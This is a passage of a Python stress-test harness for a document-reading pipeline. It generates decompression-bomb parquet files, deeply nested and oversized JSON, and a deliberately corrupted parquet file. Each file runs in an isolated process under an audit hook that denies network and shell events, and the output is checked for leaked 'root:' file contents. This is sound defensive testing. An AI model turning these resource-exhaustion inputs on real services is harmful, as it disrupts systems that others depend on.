        text = "".join(chr(0x4E00 + number % 900) for number in range(20_000 * _SIZE))
        body = (
            text.encode("punycode")
            if name in ("punycode", "idna") and _SIZE == 1
            else b"words-" + b"abc9" * (60_000 * _SIZE)
        )
        yield f"{name}.eml", b"Subject: A\r\nContent-Type: text/plain; charset=" + name.encode() + b"\r\n\r\n" + body
        yield f"{name}.html", b"<html><meta charset=" + name.encode() + b"><body><p>" + body + b"</p></body></html>"
        yield (
            f"{name}-header.eml",
            b"Subject: =?" + name.encode() + b"?q?" + b"abc9" * 20_000 + b"?=\r\n\r\nwords and words",
        )


def _row_floods() -> Iterator[tuple[str, bytes]]:
    """Tables whose rows are very many, very long or very deep."""
    yield "lists.json", b"[" + b"[]," * (3_000_000 * _SIZE) + b"[]]"
    yield "objects.json", b"[" + b"{}," * (60_000 * _SIZE) + b"{}]"
    yield "one-row.json", b'[{"text": [' + b"[]," * (3_000_000 * _SIZE) + b"[]]}]"
    yield "one-row-words.json", b'{"text": "' + b"a" * (9_000_000 * _SIZE) + b'"}'
    yield "long-rows.jsonl", (b'{"text": "' + b"word " * 1_900_000 + b'"}\n') * 2
    yield "long-wide-rows.jsonl", (b'{"text": "' + "\U0001f6a2 word ".encode() * 900_000 + b'"}\n') * 2
    for depth in (450, 700, 960, 30_000):
        row = b'{"text": ' + b"[" * depth + b"]" * depth + b"}"
        yield f"row-{depth}.json", b'[{"text": "' + _TEXT.encode() + b'"},' + row + b"]"
        yield f"row-{depth}.jsonl", row + b'\n{"text": "' + _TEXT.encode() + b'"}\n'
    yield "fields.json", b"[{" + b",".join(b'"f%d": %d' % (n, n) for n in range(90_000 * _SIZE)) + b"}]"
    yield "backslashes.json", b'["' + b"\\" * (1_000_001 * _SIZE)
    yield "quotes.json", b"[" + b'"\\"' * (400_000 * _SIZE)


def _parquets() -> Iterator[tuple[str, bytes]]:
    import pyarrow as pa
    import pyarrow.parquet as pq

    def written(table: Any, **settings: Any) -> bytes:
        out = io.BytesIO()
        pq.write_table(table, out, **settings)
        return out.getvalue()

    large = "word " * (200_000 * min(_SIZE, 5))
    shared = pa.DictionaryArray.from_arrays(pa.array([0] * (3_000 * _SIZE), pa.int32()), [large])
    yield "bomb-shared.parquet", written(pa.table({"text": shared}), compression="zstd")
    below = pa.DictionaryArray.from_arrays(pa.array([0] * (20_000 * _SIZE), pa.int32()), ["word " * 9_000])
    yield "bomb-below-limit.parquet", written(pa.table({"text": below}), compression="zstd")
    plain = pa.table({"text": ["word " * 190_000] * (60 * _SIZE)})
    yield "bomb-plain.parquet", written(plain, compression="gzip", use_dictionary=False)
    nested = pa.array([[["a"] * 900] * 900] * (5 * _SIZE), pa.list_(pa.list_(pa.string())))
    yield "bomb-nested.parquet", written(pa.table({"text": nested}), compression="zstd")
    yield (
        "bomb-numbers.parquet",
        written(pa.table({"text": pa.array([[0] * 3_000_000] * (4 * _SIZE))}), compression="zstd"),
    )
    yield "bomb-columns.parquet", written(pa.table({f"c{n}": ["x"] for n in range(4_000 * _SIZE)} | {"text": [_TEXT]}))
    yield "bomb-rows.parquet", written(pa.table({"text": [""] * (200_000 * _SIZE)}))
    yield (
        "lying.parquet",
        _lying_parquet(written(pa.table({"text": [_TEXT] * 50}), compression="none", use_dictionary=False)),
    )


def _lying_parquet(data: bytes) -> bytes:
    """The same file, its numbers in the pages' and the footer's heads made large where they are small."""
    chance = random.Random(13)
    out = bytearray(data)
    for _ in range(60):
        at = chance.choice((chance.randrange(4, 60), chance.randrange(len(out) - 400, len(out) - 8)))
        out[at] |= 0x80
    return bytes(out)


class Cost(NamedTuple):
    """What one file cost a process that read and scored it: seconds on the clock, megabytes with its own children's."""

    wall: float
    megabytes: int
    name: str


def write(folder: Path, size: int, only: str) -> list[str]:
    """Write the set into a folder, in a process of its own, so that what makes the files weighs on nobody."""
    child = os.fork()
    if not child:
        with contextlib.suppress(BaseException):
            for name, data in files(size):
                if only in name:
                    (folder / name).write_bytes(data)
            os._exit(0)
        traceback.print_exc()
        os._exit(1)
    assert os.waitpid(child, 0)[1] == 0
    return sorted(path.name for path in folder.iterdir())


_REACHED: list[str] = []
"""What was attempted; a reader that passes over an extractor's exceptions must not pass over these."""


def _deny(event: str, _arguments: object) -> None:
    """An audit hook: whatever would reach out of this process raises, and is a fault of the file."""
    if event.startswith(("socket.", "urllib.", "http.", "ftplib.", "smtplib.")) or event in ("os.system", "os.exec"):
        if event != "socket.__new__":  # urllib3 asks on import whether the system has IPv6
            _REACHED.append(event)
        raise AssertionError(f"a connection was attempted: {event}")


def _one(path: Path, pipeline: Any) -> dict[str, Any]:
    """Read, score and render everything in a file."""
    from caveat.net import Failed, tasks
    from caveat.pipeline import Wanted, score_one

    wanted = Wanted()
    outcome: dict[str, Any] = {"read": 0, "refused": 0, "faults": [], "leaked": False}
    for task in tasks([str(path)], limits=wanted.limits, options=wanted.options):
        scored = task if isinstance(task, Failed) else score_one(pipeline, task, wanted)
        if isinstance(scored, Failed):
            outcome["refused"] += 1
            if "report this as a defect" in scored.hint:
                outcome["faults"].append(f"{path.name}: {scored.error}"[:300])
        else:
            outcome["read"] += 1
            outcome["leaked"] |= "root:" in "".join(scored.renderings.values()) or "entity words" in str(
                scored.renderings
            )
    return outcome


def _apart(path: Path, pipeline: Any) -> tuple[dict[str, Any], Cost]:
    """One file in a process of its own, which is ended where it takes longer than anything may."""
    ours, theirs = os.pipe()
    start = time.monotonic()
    child = os.fork()
    if not child:
        os.close(ours)
        sys.addaudithook(_deny)
        try:
            outcome = _one(path, pipeline)
        except BaseException as error:
            outcome = {
                "read": 0,
                "refused": 0,
                "faults": [f"{path.name}: {type(error).__name__}: {error}"[:300]],
                "leaked": False,
            }
        outcome["faults"] += [f"{path.name}: a connection was attempted: {event}" for event in _REACHED]
        outcome["kb"] = (
            resource.getrusage(resource.RUSAGE_SELF).ru_maxrss + resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
        )
        os.write(theirs, json.dumps(outcome).encode())
        os._exit(0)
    os.close(theirs)
    with open(ours, "rb") as answer:  # noqa: PTH123  (a pipe, not a path)
        ready = select.select([answer], [], [], _LONGEST)[0]
        if not ready:
            os.kill(child, signal.SIGKILL)
        said = answer.read()
    _, _, used = os.wait4(child, 0)
    outcome = (
        json.loads(said)
        if said
        else {
            "read": 0,
            "refused": 0,
            "faults": [f"{path.name}: ended after {_LONGEST} s"],
            "leaked": False,
            "kb": used.ru_maxrss,
        }
    )
    scale = 1 if sys.platform == "darwin" else 1024
    return outcome, Cost(
        round(time.monotonic() - start, 2), max(outcome["kb"], used.ru_maxrss) * scale // 1_000_000, path.name
    )


_LONGEST = 120  # seconds


def run(*, only: str = "", size: int = 1) -> dict[str, Any]:
    """Every file through the whole program, each in a process of its own with connections denied; what it cost."""
    from caveat.load.rubric import load_rubric
    from caveat.pipeline import Pipeline

    pipeline = Pipeline(load_rubric())
    costs: list[Cost] = []
    whole: dict[str, Any] = {"outcomes": {"read": 0, "refused": 0}, "faults": [], "leaked": []}
    with tempfile.TemporaryDirectory() as folder:
        names = write(Path(folder), size, only)
        with ThreadPoolExecutor(2) as pool:
            for outcome, cost in pool.map(lambda name: _apart(Path(folder) / name, pipeline), names):
                costs.append(cost)
                for kind in whole["outcomes"]:
                    whole["outcomes"][kind] += bool(outcome[kind])
                whole["faults"] += outcome["faults"]
                whole["leaked"] += [cost.name] * outcome["leaked"]
    return {
        "files": len(costs), **whole, "peak_megabytes": max(cost.megabytes for cost in costs), "slowest": sorted(costs, reverse=True)[:12],
        "largest": sorted(costs, key=lambda cost: -cost.megabytes)[:12],
    }  # fmt: skip


if __name__ == "__main__":
    arguments = argparse.ArgumentParser(description=__doc__)
    arguments.add_argument("--only", default="", help="part of the names of the files to try")
    arguments.add_argument("--size", type=int, default=1, help="how many times the ordinary size (5: up to the limits)")
    chosen = arguments.parse_args()
    print(json.dumps(run(only=chosen.only, size=chosen.size), indent=1))
